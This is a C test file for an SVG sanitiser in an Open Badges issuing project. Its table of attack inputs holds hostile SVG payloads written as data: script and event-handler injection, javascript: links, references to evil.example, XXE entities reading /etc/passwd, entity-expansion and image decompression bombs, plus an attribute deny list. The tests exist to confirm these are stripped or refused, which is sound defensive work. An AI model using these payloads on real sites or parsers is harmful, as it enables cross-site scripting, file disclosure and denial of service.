#include "io/svg.h"
#include "png_make.h"
#include "unit.h"
#include <apr_strings.h>
#include <libxml/parser.h>
#include <stdio.h>

#define HEAD "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 100 100\">"
#define S(inner) HEAD inner "</svg>"

/* What may come out, written down here a second time, apart from the sanitiser's own tables. */
static const char *const may_elements = " svg g defs symbol use title desc path rect circle ellipse line polyline polygon text tspan textPath linearGradient "
    "radialGradient stop clipPath mask pattern marker image style filter feBlend feColorMatrix feComponentTransfer feComposite feDropShadow feFlood feFuncA feFuncB "
    "feFuncG feFuncR feGaussianBlur feMerge feMergeNode feMorphology feOffset ";
static const char *const may_not_attributes[] = { "on", "src", "srcset", "action", "formaction", "target", "ping", "begin", "attributeName", "from", "to", "by",
    "cursor", "content", "background", "data", "codebase", "requiredExtensions", "externalResourcesRequired", "base", NULL };

static void hold_value(const char *name, const char *value)
{
    if (strcmp(name, "aria-label") == 0)
        return;
    assert_null(strcasestr(value, "javascript"));
    assert_null(strcasestr(value, "//"));
    assert_null(strchr(value, '\\'));
    assert_null(strchr(value, '@'));
    assert_null(strcasestr(value, "expression"));
    assert_null(strcasestr(value, "import"));
    for (const char *p = value; (p = strcasestr(p, "url")); p += 3)
        assert_true(!strncmp(p, "url(#", 5) || !strncmp(p, "url('#", 6) || !strncmp(p, "url(\"#", 6));
}

static void hold_node(const xmlNode *n)
{
    for (; n; n = n->next) {
        assert_true(n->type == XML_ELEMENT_NODE || n->type == XML_TEXT_NODE);
        if (n->type != XML_ELEMENT_NODE)
            continue;
        char padded[100];
        snprintf(padded, sizeof padded, " %s ", (const char *)n->name);
        if (!strstr(may_elements, padded))
            fail_msg("element %s came through", (const char *)n->name);
        assert_string_equal((const char *)n->ns->href, "http://www.w3.org/2000/svg");
        for (const xmlAttr *a = n->properties; a; a = a->next) {
            char *value = (char *)xmlNodeListGetString(n->doc, a->children, 1);
            const char *v = value ? value : "";
            for (const char *const *bad = may_not_attributes; *bad; bad++)
                if (!strcasecmp((const char *)a->name, *bad) || (bad == may_not_attributes && !strncasecmp((const char *)a->name, "on", 2)))
                    fail_msg("attribute %s came through", (const char *)a->name);
            if (!strcmp((const char *)a->name, "href"))
                assert_true(v[0] == '#' || (!strcmp((const char *)n->name, "image") && (!strncmp(v, "data:image/png;base64,", 22) || !strncmp(v, "data:image/jp", 13))));
            else
                hold_value((const char *)a->name, v);
            xmlFree(value);
        }
        if (!strcmp((const char *)n->name, "style") && n->children)
            hold_value("style", (const char *)n->children->content);
        hold_node(n->children);
    }
}

static void hold(const bdg_buf_t *out)
{
    xmlDoc *doc = xmlReadMemory(out->data, (int)out->len, NULL, NULL, XML_PARSE_NONET);
    assert_non_null(doc);
    assert_null(doc->intSubset);
    hold_node(doc->children);
    xmlFreeDoc(doc);
}

/* want: 0 = comes out clean; else the error. gone: a word that must not be in what comes out; kept: one that must. */
static const struct { const char *svg; bdg_code_e want; const char *gone, *kept; } attacks[] = {
    { S("<script>alert(1)</script><rect/>"), 0, "alert", "<rect/>" },
    { S("<script xlink:href=\"http://evil.example/x.js\"/>"), 0, "evil", NULL },
    { S("<script href=\"data:text/javascript,alert(1)\"/>"), 0, "alert", NULL },
    { S("<rect onload=\"alert(1)\" onclick='x' fill=\"red\"/>"), 0, "alert", "fill=\"red\"" },
    { "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\" onload=\"alert(1)\"/>", 0, "onload", NULL },
    { S("<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><iframe src=\"http://evil.example\"/></body></foreignObject>"), 0, "evil", NULL },
    { S("<a href=\"javascript:alert(1)\"><rect id=\"r\"/></a>"), 0, "javascript", "<rect id=\"r\"/>" },
    { S("<a xlink:href=\"java&#10;script:alert(1)\"><text>words</text></a>"), 0, "script", "words" },
    { S("<animate attributeName=\"href\" values=\"javascript:alert(1)\"/><set attributeName=\"onload\" to=\"alert(1)\"/>"), 0, "alert", NULL },
    { S("<use href=\"http://evil.example/a.svg#x\"/>"), 0, "evil", "<use/>" },
    { S("<use xlink:href=\"data:image/svg+xml;base64,PHN2Zy8+#x\"/>"), 0, "data:", "<use/>" },
    { S("<use href=\"#a\" xlink:href=\"http://evil.example/\"/>"), 0, "evil", "href=\"#a\"" },
    { S("<image href=\"http://evil.example/track.gif\"/>"), 0, "evil", "<image/>" },
    { S("<image href=\"file:///etc/passwd\"/><image href=\"//evil.example/x\"/><image href=\"/etc/passwd\"/>"), 0, "passwd", NULL },
    { S("<image href=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\"/>"), 0, "data:", NULL },
    { S("<image href=\"data:text/html,&lt;script>alert(1)&lt;/script>\"/>"), 0, "alert", NULL },
    { S("<image href=\"data:image/png;base64,PHNjcmlwdD4=\"/>"), 0, "data:", "<image/>" },
    { S("<feImage href=\"http://evil.example/\"/><filter id=\"f\"><feImage xlink:href=\"#a\"/></filter>"), 0, "feImage", "<filter id=\"f\"/>" },
    { S("<rect fill=\"url(http://evil.example/#a)\" stroke=\"url(#ok)\"/>"), 0, "evil", "stroke=\"url(#ok)\"" },
    { S("<rect fill=\"URL(http://evil.example/)\" mask=\"image-set('http://evil.example/' 1x)\" filter=\"url( //evil.example )\"/>"), 0, "evil", "<rect/>" },
    { S("<rect style=\"fill:red;background:url(http://evil.example/);stroke:blue\"/>"), 0, "evil", "style=\"fill:red;stroke:blue;\"" },
    { S("<rect style=\"fill:u\\72l(http://evil.example/)\"/>"), 0, "evil", "<rect/>" },
    { S("<rect style=\"fill:url('#a\"/>"), 0, "url", "<rect/>" },
    { S("<rect style=\"behavior:url(#x);-moz-binding:url(http://evil.example/x.xml#a);width:expression(alert(1))\"/>"), 0, "evil", "<rect/>" },
    { S("<style>@import url(http://evil.example/x.css);</style>"), 0, "import", NULL },
    { S("<style>@font-face{font-family:x;src:url(http://evil.example/f)} .a{fill:red}</style>"), 0, "evil", ".a{fill:red;}" },
    { S("<style>.a{fill:red;background:url(http://evil.example/)}.b{fill:url(#g)}</style><linearGradient id=\"g\"/>"), 0, "evil", ".b{fill:url(#g);}" },
    { S("<style>.a{fill:red}/*</style><script>alert(1)</script><style>*/</style>"), 0, "alert", ".a{fill:red;}" },
    { S("<style>&lt;/style>&lt;script>alert(1)&lt;/script></style>"), 0, "alert", NULL },
    { S("<style><![CDATA[a[href^=\"x\"]{fill:red}]]></style>"), 0, "href", NULL },
    { S("<style>.a{mask:url(#m)}</style><mask id=\"m\"><rect class=\"b a\"/></mask><rect class=\"a\"/>"), BDG_E_INVALID, NULL, NULL },
    { S("<style>rect{mask:url(#m)}</style><mask id=\"m\"><rect/></mask>"), BDG_E_INVALID, NULL, NULL },
    { S("<style>.a .b,.c{mask:url(#m)}</style><mask id=\"m\"><rect/></mask>"), BDG_E_INVALID, NULL, NULL },
    { S("<style>.a,.c{clip-path:url(#m)}.b{fill:none}</style><clipPath id=\"m\"><rect class=\"b\"/></clipPath><g class=\"c\"/>"), 0, NULL, ".a,.c{clip-path:url(#m);}" },
    { "<?xml version=\"1.0\"?><?xml-stylesheet href=\"http://evil.example/x.xsl\" type=\"text/xsl\"?>" S("<?php echo 1 ?><rect/>"), 0, "evil", "<rect/>" },
    { S("<!-- <script>alert(1)</script> --><rect/>"), 0, "alert", "<rect/>" },
    { "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://evil.example/svg11.dtd\">" S("<rect/>"), 0, "evil", "<rect/>" },
    { "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" S("<text>&x;</text>"), BDG_E_INVALID, NULL, NULL },
    { "<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>" S("<text>&c;</text>"), BDG_E_INVALID, NULL, NULL },
    { "<!DOCTYPE svg [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\">%p;]>" S(""), BDG_E_INVALID, NULL, NULL },
    { "<!DOCTYPE svg [<!ATTLIST rect onload CDATA \"alert(1)\">]>" S("<rect/>"), BDG_E_INVALID, NULL, NULL },
    { S("<text>&undeclared;</text>"), BDG_E_MALFORMED, NULL, NULL },
    { S("<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script>"), 0, "alert", NULL },
    { S("<s:script xmlns:s=\"http://www.w3.org/2000/svg\">alert(1)</s:script><s:rect xmlns:s=\"http://www.w3.org/2000/svg\"/>"), 0, "alert", "<rect/>" },
    { S("<rect xmlns:e=\"http://www.w3.org/2001/xml-events\" e:onload=\"alert(1)\" e:fill=\"red\"/>"), 0, "e:", "<rect/>" },
    { S("<handler type=\"application/ecmascript\">alert(1)</handler><iframe/><embed/><object/><audio/><video/><discard/><metadata>secret</metadata>"), 0, "secret", NULL },
    { S("<switch><foreignObject/><g id=\"art\"><rect/></g></switch>"), 0, "switch", "<g id=\"art\"><rect/></g>" },
    { S("<title>&lt;script>alert(1)&lt;/script></title>"), 0, "<script", "&lt;script&gt;" },
    { S("<text><![CDATA[<script>alert(1)</script>]]></text>"), 0, "<script", "&lt;script&gt;" },
    { S("<g id=\"a\"><use href=\"#a\"/></g>"), BDG_E_INVALID, NULL, NULL },
    { S("<g id=\"a\"><use href=\"#b\"/></g><g id=\"b\"><use href=\"#a\"/></g>"), BDG_E_INVALID, NULL, NULL },
    { S("<pattern id=\"p\"><rect fill=\"url(#p)\"/></pattern><rect fill=\"url(#p)\"/>"), BDG_E_INVALID, NULL, NULL },
    { S("<rect id=\"x\" fill=\"red\"/><g id=\"x\"/>"), 0, "<g id", "<g/>" },
    { "<?xml version=\"1.0\" encoding=\"UTF-7\"?>" S("<rect/>"), BDG_E_INVALID, NULL, NULL },
    { "<svg viewBox=\"0 0 1 1\"><script>alert(1)</script><rect/></svg>", 0, "alert", "<rect/>" },
    { "<svg xmlns=\"http://evil.example/ns\" viewBox=\"0 0 1 1\"><script>alert(1)</script></svg>", BDG_E_UNSUPPORTED, NULL, NULL },
    { "<html><body><svg viewBox=\"0 0 1 1\"/></body></html>", BDG_E_UNSUPPORTED, NULL, NULL },
    { S("<rect/>") "<html/>", BDG_E_MALFORMED, NULL, NULL },
    { S("<rect>"), BDG_E_MALFORMED, NULL, NULL },
    { "GIF89a<svg/>", BDG_E_MALFORMED, NULL, NULL },
    { "", BDG_E_UNSUPPORTED, NULL, NULL },
};

static void attacks_come_out_clean(void **state)
{
    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++) {
        bdg_buf_t *out = bdg_buf_make(BDG_SVG_MAX, *state), *again = bdg_buf_make(BDG_SVG_MAX, *state);
        print_message("%s\n", attacks[i].svg);
        if (attacks[i].want) {
            assert_err(bdg_svg_sanitise(out, NULL, attacks[i].svg, strlen(attacks[i].svg), *state), attacks[i].want, NULL);
            assert_int_equal(out->len, 0);
            continue;
        }
        assert_ok(bdg_svg_sanitise(out, NULL, attacks[i].svg, strlen(attacks[i].svg), *state));
        hold(out);
        if (attacks[i].gone && strstr(out->data, attacks[i].gone))
            fail_msg("%s is still in %s", attacks[i].gone, out->data);
        if (attacks[i].kept && !strstr(out->data, attacks[i].kept))
            fail_msg("%s is not in %s", attacks[i].kept, out->data);
        assert_ok(bdg_svg_sanitise(again, NULL, out->data, out->len, *state));
        assert_string_equal(again->data, out->data);
    }
}

static void bombs_are_counted(void **state)
{
    bdg_buf_t *b = bdg_buf_make(4 << 20, *state), *out = bdg_buf_make(BDG_SVG_MAX, *state);
    bdg_buf_str(b, HEAD "<rect id=\"l0\"/>");
    for (int i = 1; i < 12; i++) {
        bdg_buf_printf(b, "<g id=\"l%d\">", i);
        for (int k = 0; k < 10; k++)
            bdg_buf_printf(b, "<use xlink:href=\"#l%d\"/>", i - 1);
        bdg_buf_str(b, "</g>");
    }
    bdg_buf_str(b, "</svg>");
    assert_err(bdg_svg_sanitise(out, NULL, b->data, b->len, *state), BDG_E_TOO_LARGE, "repeats");

    bdg_buf_clear(b);
    bdg_buf_str(b, HEAD);
    for (int i = 0; i < 100; i++)
        bdg_buf_str(b, "<g>");
    assert_err(bdg_svg_sanitise(out, NULL, b->data, b->len, *state), BDG_E_TOO_LARGE, "complicated");

    bdg_buf_clear(b);
    bdg_buf_str(b, HEAD);
    for (int i = 0; i < 10001; i++)
        bdg_buf_str(b, "<g/>");
    bdg_buf_str(b, "</svg>");
    assert_err(bdg_svg_sanitise(out, NULL, b->data, b->len, *state), BDG_E_TOO_LARGE, "complicated");

    bdg_buf_clear(b);
    bdg_buf_str(b, HEAD "<g id=\"c0\"/>");
    for (int i = 1; i < 100; i++)
        bdg_buf_printf(b, "<g id=\"c%d\"><use xlink:href=\"#c%d\"/></g>", i, i - 1);
    bdg_buf_str(b, "<use href=\"#c99\"/></svg>");
    bdg_err_t *e = bdg_svg_sanitise(out, NULL, b->data, b->len, *state);       /* a long chain: refused or counted, never a deep recursion */
    bdg_err_clear(e);

    char *big = apr_pcalloc(*state, BDG_SVG_MAX + 1);
    memset(big, ' ', BDG_SVG_MAX + 1);
    assert_err(bdg_svg_sanitise(out, NULL, big, BDG_SVG_MAX + 1, *state), BDG_E_TOO_LARGE, "KB");

    /* Escaping makes it grow: the cap holds for what comes out, too. */
    bdg_buf_t *grow = bdg_buf_make(BDG_SVG_MAX, *state);
    bdg_buf_str(grow, HEAD "<text>");
    while (grow->len < BDG_SVG_MAX - 100)
        bdg_buf_str(grow, ">>>>>>>>>>>>>>>>>>>>");
    bdg_buf_str(grow, "</text></svg>");
    assert_err(bdg_svg_sanitise(out, NULL, grow->data, grow->len, *state), BDG_E_TOO_LARGE, NULL);
}

static void sizes_are_found(void **state)
{
    static const struct { const char *attrs; double w, h; const char *written; } sizes[] = {
        { "viewBox=\"0 0 100 50\"", 100, 50, "width=\"100\" height=\"50\" viewBox=\"0 0 100 50\"" },
        { "width=\"200\" height=\"100px\"", 200, 100, "viewBox=\"0 0 200 100\"" },
        { "width=\"1in\" height=\"2.54cm\"", 96, 96, "viewBox=\"0 0 96 96\"" },
        { "width=\"100%\" height=\"100%\" viewBox=\"-5,-5 , 10 20\"", 10, 20, "viewBox=\"-5 -5 10 20\"" },
        { "width=\"300\" viewBox=\"0 0 10 20\"", 300, 600, "height=\"600\"" },
        { "height=\"72pt\" viewBox=\"0 0 10 20\"", 48, 96, "width=\"48\"" },
    };
    static const char *const bad[] = { "", "width=\"10\"", "width=\"100%\" height=\"50%\"", "viewBox=\"0 0 0 10\"", "viewBox=\"0 0 10\"", "viewBox=\"0 0 inf nan\"",
        "viewBox=\"0 0 1e300 1\"", "width=\"1e9\" height=\"1e9\"", "width=\"0x10\" height=\"0x10\"", "viewBox=\"0 0 1000 1\"", "width=\"-5\" height=\"5\"" };
    bdg_svg_info_t info;
    for (size_t i = 0; i < sizeof sizes / sizeof *sizes; i++) {
        bdg_buf_t *out = bdg_buf_make(BDG_SVG_MAX, *state);
        const char *svg = apr_psprintf(*state, "<svg xmlns=\"http://www.w3.org/2000/svg\" %s><rect/></svg>", sizes[i].attrs);
        assert_ok(bdg_svg_sanitise(out, &info, svg, strlen(svg), *state));
        assert_true(info.width > sizes[i].w - 0.01 && info.width < sizes[i].w + 0.01);
        assert_true(info.height > sizes[i].h - 0.01 && info.height < sizes[i].h + 0.01);
        assert_non_null(strstr(out->data, sizes[i].written));
        assert_int_equal(info.elements, 2);
    }
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        bdg_buf_t *out = bdg_buf_make(BDG_SVG_MAX, *state);
        const char *svg = apr_psprintf(*state, "<svg xmlns=\"http://www.w3.org/2000/svg\" %s/>", bad[i]);
        assert_err(bdg_svg_sanitise(out, NULL, svg, strlen(svg), *state), BDG_E_INVALID, NULL);
    }
}

static const char *base64(const bdg_buf_t *b, apr_pool_t *pool)
{
    static const char letters[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    bdg_buf_t *out = bdg_buf_make(b->len * 2 + 8, pool);
    for (size_t i = 0; i < b->len; i += 3) {
        const unsigned char *p = (const unsigned char *)b->data + i;
        size_t n = b->len - i;
        unsigned v = (unsigned)p[0] << 16 | (n > 1 ? (unsigned)p[1] << 8 : 0) | (n > 2 ? p[2] : 0);
        char four[5] = { letters[v >> 18], letters[v >> 12 & 63], n > 1 ? letters[v >> 6 & 63] : '=', n > 2 ? letters[v & 63] : '=', 0 };
        bdg_buf_str(out, four);
    }
    return out->data;
}

static void pictures_within_are_checked(void **state)
{
    bdg_buf_t *bomb = bdg_buf_make(1000, *state), *out = bdg_buf_make(BDG_SVG_MAX, *state);
    const char *good = apr_psprintf(*state, S("<image width=\"5\" height=\"5\" href=\"data:image/png;base64,%s\"/>"), base64(png_plain(2, 2, *state), *state));
    assert_ok(bdg_svg_sanitise(out, NULL, good, strlen(good), *state));
    assert_non_null(strstr(out->data, "xlink:href=\"data:image/png;base64,iVBOR"));
    hold(out);
    png_put_head(bomb, 65535, 65535, 8, 6);
    png_put_idat(bomb, 10, 0);
    png_put_chunk(bomb, "IEND", "", 0);
    const char *bad = apr_psprintf(*state, S("<image href=\"data:image/png;base64,%s\"/>"), base64(bomb, *state));
    bdg_buf_clear(out);
    assert_ok(bdg_svg_sanitise(out, NULL, bad, strlen(bad), *state));
    assert_null(strstr(out->data, "data:"));
    /* JPEG: SOI, APP0, SOF0 of 16 by 16, and of 65535 by 65535 */
    static const char jpeg[] = "\xff\xd8\xff\xe0\0\4xx\xff\xc0\0\x0b\x08\0\x10\0\x10\1\1\x11\0", flood[] = "\xff\xd8\xff\xe0\0\4xx\xff\xc0\0\x0b\x08\xff\xff\xff\xff\1\1\x11\0";
    for (int i = 0; i < 2; i++) {
        bdg_buf_t *j = bdg_buf_make(100, *state);
        bdg_buf_add(j, i ? flood : jpeg, sizeof jpeg - 1);
        const char *svg = apr_psprintf(*state, S("<image href=\"data:image/jpeg;base64,%s\"/>"), base64(j, *state));
        bdg_buf_clear(out);
        assert_ok(bdg_svg_sanitise(out, NULL, svg, strlen(svg), *state));
        assert_int_equal(strstr(out->data, "data:") != NULL, !i);
    }
}

static void encodings_become_utf8(void **state)
{
    static const char latin[] = "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>" S("<text>Zo\xeb &amp; \"co\"</text><g aria-label=\"a&amp;b &quot;c&quot;\"/>");
    bdg_buf_t *out = bdg_buf_make(BDG_SVG_MAX, *state), *wide = bdg_buf_make(10000, *state);
    assert_ok(bdg_svg_sanitise(out, NULL, latin, sizeof latin - 1, *state));
    assert_non_null(strstr(out->data, "<text>Zo\xc3\xab &amp; \"co\"</text>"));
    assert_non_null(strstr(out->data, "aria-label=\"a&amp;b &quot;c&quot;\""));
    bdg_buf_add(wide, "\xff\xfe", 2);
    for (const char *p = S("<script>x</script><rect/>"); *p; p++) {
        bdg_buf_char(wide, *p);
        bdg_buf_char(wide, 0);
    }
    bdg_buf_clear(out);
    assert_ok(bdg_svg_sanitise(out, NULL, wide->data, wide->len, *state));
    assert_null(strstr(out->data, "script"));
    assert_non_null(strstr(out->data, "<rect/>"));
}

static void kinds_are_told(void **state)
{
    static const char *const yes[] = { "<svg/>", "\xef\xbb\xbf<?xml version=\"1.0\"?>\n<!-- x --><!DOCTYPE svg>\n<svg ", "<s:svg xmlns:s=\"x\">" };
    static const char *const no[] = { "", "<", "<svgx>", "<html><svg/></html>", "<!-- <svg>", "svg", "\x89PNG\r\n", "<?xml <svg>" };
    (void)state;
    for (size_t i = 0; i < 3; i++)
        assert_true(bdg_svg_is(yes[i], strlen(yes[i])));
    for (size_t i = 0; i < 8; i++)
        assert_false(bdg_svg_is(no[i], strlen(no[i])));
}

static bdg_buf_t *clean_of(const char *svg, apr_pool_t *pool)
{
    bdg_buf_t *out = bdg_buf_make(BDG_SVG_MAX, pool);
    assert_ok(bdg_svg_sanitise(out, NULL, svg, strlen(svg), pool));
    return out;
}

static void baked_credentials_come_back(void **state)
{
    static const struct { const char *svg; bdg_svg_form_e form; const char *verify, *json, *literal; } cases[] = {
        { S("<rect/>"), BDG_SVG_OB2, "https://b.example/assertions/1?a=1&b=2", "{\"a\":[[1]],\"b\":\"x]]>y \xc3\xab <&\"}",
          "><openbadges:assertion verify=\"https://b.example/assertions/1?a=1&amp;b=2\"><![CDATA[{\"a\":[[1]],\"b\":\"x]]\\u003ey \xc3\xab <&\"}]]></openbadges:assertion><rect/></svg>" },
        { S("<rect/>"), BDG_SVG_OB2, "eyJh.eyJi.c-_", NULL, "><openbadges:assertion verify=\"eyJh.eyJi.c-_\"/><rect/></svg>" },
        { S("<rect/>"), BDG_SVG_OB3, "eyJh.eyJi.c-_", NULL, "xmlns:openbadges=\"https://purl.imsglobal.org/ob/v3p0\"" },
        { S("<rect/>"), BDG_SVG_OB3, NULL, "{\"proof\":1}", "><openbadges:credential><![CDATA[{\"proof\":1}]]></openbadges:credential><rect/></svg>" },
        { S(""), BDG_SVG_OB2, "x", "{}", "><openbadges:assertion verify=\"x\"><![CDATA[{}]]></openbadges:assertion></svg>" },
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        bdg_buf_t *svg = clean_of(cases[i].svg, *state), *out = bdg_buf_make(BDG_SVG_BAKED_MAX, *state);
        bdg_svg_baked_t got;
        assert_ok(bdg_svg_bake(out, svg->data, svg->len, cases[i].form, cases[i].verify, cases[i].json));
        if (!strstr(out->data, cases[i].literal))
            fail_msg("%s is not in %s", cases[i].literal, out->data);
        assert_ok(bdg_svg_extract(&got, out->data, out->len, cases[i].form, *state));
        if (cases[i].verify)
            assert_string_equal(got.verify, cases[i].verify);
        else
            assert_null(got.verify);
        assert_int_equal(got.json != NULL, cases[i].json != NULL);
        if (cases[i].json && !strstr(cases[i].json, "]]>"))
            assert_string_equal(got.json, cases[i].json);
        assert_ok(bdg_svg_extract(&got, out->data, out->len, cases[i].form == BDG_SVG_OB2 ? BDG_SVG_OB3 : BDG_SVG_OB2, *state));
        assert_true(!got.verify && !got.json);
        /* sanitising again takes the credential out, and leaves the picture as it was */
        assert_string_equal(clean_of(out->data, *state)->data, svg->data);
        /* a second one does not go in */
        assert_err(bdg_svg_bake(bdg_buf_make(1 << 20, *state), out->data, out->len, BDG_SVG_OB2, "x", NULL), BDG_E_INTERNAL, NULL);
    }
    bdg_buf_t *svg = clean_of(S(""), *state);
    assert_err(bdg_svg_bake(bdg_buf_make(1 << 20, *state), svg->data, svg->len, BDG_SVG_OB2, "x", "{\"a\":\"\x01\"}"), BDG_E_INVALID, NULL);
    assert_err(bdg_svg_bake(bdg_buf_make(1 << 20, *state), svg->data, svg->len, BDG_SVG_OB2, "x", "{\"a\":\"\xff\"}"), BDG_E_INVALID, NULL);
    bdg_buf_t *out = bdg_buf_make(1 << 20, *state);
    assert_ok(bdg_svg_bake(out, svg->data, svg->len, BDG_SVG_OB2, "x", "{\"a\":\"\xef\xbf\xbe\"}"));
    assert_non_null(strstr(out->data, "\"\\ufffe\""));
}

static void other_peoples_files_are_read(void **state)
{
    static const char wild[] = "<?xml version=\"1.0\"?>\n<!DOCTYPE svg PUBLIC \"a\" \"b\">\n<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\" xmlns:openbadges=\"https://openbadges.org/\">\n"
        "  <openbadges:assertion verify=\" https://x.example/1 \">\n {\"a\":\"&lt;\"} <!-- c --> </openbadges:assertion><openbadges:assertion verify=\"second\">no</openbadges:assertion></svg:svg>";
    static const char unbound[] = "<svg><openbadges:assertion verify=\"jws\"/></svg>";
    static const char entity[] = "<!DOCTYPE svg [<!ENTITY a \"b\">]><svg/>";
    bdg_svg_baked_t got;
    assert_ok(bdg_svg_extract(&got, wild, sizeof wild - 1, BDG_SVG_OB2, *state));
    assert_string_equal(got.verify, "https://x.example/1");
    assert_string_equal(got.json, "{\"a\":\"<\"}");
    assert_ok(bdg_svg_extract(&got, unbound, sizeof unbound - 1, BDG_SVG_OB2, *state));
    assert_string_equal(got.verify, "jws");
    assert_err(bdg_svg_extract(&got, entity, sizeof entity - 1, BDG_SVG_OB2, *state), BDG_E_INVALID, NULL);
    assert_err(bdg_svg_extract(&got, "<html/>", 7, BDG_SVG_OB2, *state), BDG_E_UNSUPPORTED, NULL);
    assert_err(bdg_svg_extract(&got, "<svg>", 5, BDG_SVG_OB2, *state), BDG_E_MALFORMED, NULL);
}

static void our_graphics_pass_whole(void **state)
{
    static const char *const names[] = { "water-safety", "first-aid", "coach" };
    for (size_t i = 0; i < 3; i++) {
        FILE *f = fopen(apr_psprintf(*state, "conf/dev/graphics/%s.svg", names[i]), "rb");
        static char svg[100000];
        bdg_svg_info_t info;
        assert_non_null(f);
        size_t n = fread(svg, 1, sizeof svg, f);
        fclose(f);
        bdg_buf_t *out = bdg_buf_make(BDG_SVG_MAX, *state);
        assert_ok(bdg_svg_sanitise(out, &info, svg, n, *state));
        assert_int_equal(info.dropped, 0);
        hold(out);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        pooled_test(attacks_come_out_clean), pooled_test(bombs_are_counted), pooled_test(sizes_are_found), pooled_test(pictures_within_are_checked),
        pooled_test(encodings_become_utf8), pooled_test(kinds_are_told), pooled_test(baked_credentials_come_back),
        pooled_test(other_peoples_files_are_read), pooled_test(our_graphics_pass_whole),
    };
    xmlInitParser();
    return unit_main(tests);
}
